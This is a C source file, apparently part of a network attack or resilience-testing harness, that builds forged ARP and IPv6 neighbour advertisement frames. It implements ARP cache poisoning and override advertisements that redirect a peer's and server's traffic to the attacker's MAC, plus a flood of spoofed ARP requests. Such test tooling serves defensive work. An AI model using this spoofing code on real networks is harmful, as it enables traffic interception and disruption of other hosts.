/* SPDX-License-Identifier: BSD-3-Clause */

/* What a host can say of its neighbours without being asked. */

#include <string.h>

#include "attacker.h"
#include "neighbour/frame.h"
#include "wire/internet.h"

#define ARP_REQUEST 1
#define ARP_REPLY   2

#define NDP_ADVERTISEMENT 136
#define NDP_SOLICITED     0x40
#define NDP_OVERRIDE      0x20
#define NDP_HOP_LIMIT     255
#define ICMPV6            58
#define NDP_OPTION_TARGET 2
#define NDP_OPTION_BYTES  8
#define LIES_GAP_MS       20
#define ASKERS_FIRST      20
#define ASKERS            230

struct arp_frame {
	struct wh_ether_header ether;
	struct wh_arp arp;
} __attribute__((packed));

struct advertisement {
	struct wh_ether_header ether;
	struct wh_ipv6_header ip;
	uint8_t type;
	uint8_t code;
	uint16_t sum;
	uint8_t flags;
	uint8_t reserved[3];
	uint8_t target[16];
	uint8_t option;
	uint8_t option_units;
	uint8_t mac[6];
} __attribute__((packed));

static const uint8_t all_netifs[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

static void arp(struct wh_attacker *attacker, uint16_t operation, const struct wh_address *sender,
	const struct wh_address *target, const uint8_t to_mac[6])
{
	struct arp_frame frame = {
		.ether.type = rte_cpu_to_be_16(WH_ETHER_TYPE_ARP),
		.arp.hardware = rte_cpu_to_be_16(1),
		.arp.protocol = rte_cpu_to_be_16(WH_ETHER_TYPE_IPV4),
		.arp.mac_bytes = 6,
		.arp.ip_bytes = 4,
		.arp.operation = rte_cpu_to_be_16(operation),
	};

	memcpy(frame.ether.target, to_mac, 6);
	memcpy(frame.ether.source, attacker->own_mac, 6);
	memcpy(frame.arp.sender_mac, attacker->own_mac, 6);
	memcpy(frame.arp.sender_ip, sender->ip, 4);
	memcpy(frame.arp.target_mac, to_mac, 6);
	memcpy(frame.arp.target_ip, target->ip, 4);
	wh_attack_frame(attacker, (const uint8_t *)&frame, sizeof(frame));
}

/* The peer is here, the server hears; and the server is here, the peer. */
static void moved(struct wh_attacker *attacker)
{
	while (wh_attack_goes_on(attacker)) {
		for (uint16_t operation = ARP_REQUEST; operation <= ARP_REPLY; operation++) {
			arp(attacker, operation, &attacker->peer, &attacker->server,
				attacker->server_mac);
			arp(attacker, operation, &attacker->server, &attacker->peer,
				attacker->peer_mac);
			arp(attacker, operation, &attacker->peer, &attacker->peer, all_netifs);
			arp(attacker, operation, &attacker->server, &attacker->server, all_netifs);
		}
		wh_attack_sleep_ms(LIES_GAP_MS);
	}
}

/* Addresses of IPv6 that end as those of IPv4: 2001:db8::1 beside 192.0.2.1. */
static void ipv6_of(const struct wh_address *address, uint8_t ip[16])
{
	static const uint8_t prefix[4] = {0x20, 0x01, 0x0d, 0xb8};

	memset(ip, 0, 16);
	memcpy(ip, prefix, sizeof(prefix));
	ip[15] = address->ip[3];
}

static void advertise(struct wh_attacker *attacker, const struct wh_address *of,
	const struct wh_address *to, const uint8_t to_mac[6], uint8_t flags)
{
	struct advertisement frame = {
		.ether.type = rte_cpu_to_be_16(WH_ETHER_TYPE_IPV6),
		.ip.version_class_label = rte_cpu_to_be_32(WH_IPV6_VERSION),
		.ip.payload_bytes =
			rte_cpu_to_be_16(sizeof(frame) - offsetof(struct advertisement, type)),
		.ip.next_header = ICMPV6,
		.ip.hop_limit = NDP_HOP_LIMIT,
		.type = NDP_ADVERTISEMENT,
		.flags = flags,
		.option = NDP_OPTION_TARGET,
		.option_units = 1,
	};
	uint16_t pseudo[2] = {frame.ip.payload_bytes, rte_cpu_to_be_16(ICMPV6)};

	memcpy(frame.ether.target, to_mac, 6);
	memcpy(frame.ether.source, attacker->own_mac, 6);
	ipv6_of(of, frame.ip.source);
	ipv6_of(to, frame.ip.target);
	ipv6_of(of, frame.target);
	memcpy(frame.mac, attacker->own_mac, 6);
	uint64_t sum = wh_sum_add(wh_sum_add(0, frame.ip.source, 32), pseudo, sizeof(pseudo));

	sum = wh_sum_add(sum, &frame.type, sizeof(frame) - offsetof(struct advertisement, type));
	frame.sum = (uint16_t)~wh_sum_fold(sum);
	wh_attack_frame(attacker, (const uint8_t *)&frame, sizeof(frame));
}

static void moved6(struct wh_attacker *attacker)
{
	static const uint8_t flags[] = {NDP_OVERRIDE, NDP_OVERRIDE | NDP_SOLICITED, NDP_SOLICITED};

	while (wh_attack_goes_on(attacker)) {
		for (size_t i = 0; i < sizeof(flags); i++) {
			advertise(attacker, &attacker->peer, &attacker->server,
				attacker->server_mac, flags[i]);
			advertise(attacker, &attacker->server, &attacker->peer, attacker->peer_mac,
				flags[i]);
		}
		wh_attack_sleep_ms(LIES_GAP_MS);
	}
}

/* Ever other hosts of the subnet ask for the server. */
static void askers(struct wh_attacker *attacker)
{
	for (uint32_t i = 0; wh_attack_goes_on(attacker); i++) {
		struct wh_address asker =
			wh_attack_beside(&attacker->server, (uint8_t)(ASKERS_FIRST + i % ASKERS));

		arp(attacker, ARP_REQUEST, &asker, &attacker->server, attacker->server_mac);
	}
}

const struct wh_attack wh_attacks_neighbours[] = {
	{"moved", 8, "ARP that nobody asked for: the peer is here, and so is the server", moved},
	{"moved6", 8, "the same by neighbour advertisements", moved6},
	{"askers", 4, "questions by ARP from every address of the subnet", askers},
	{0},
};
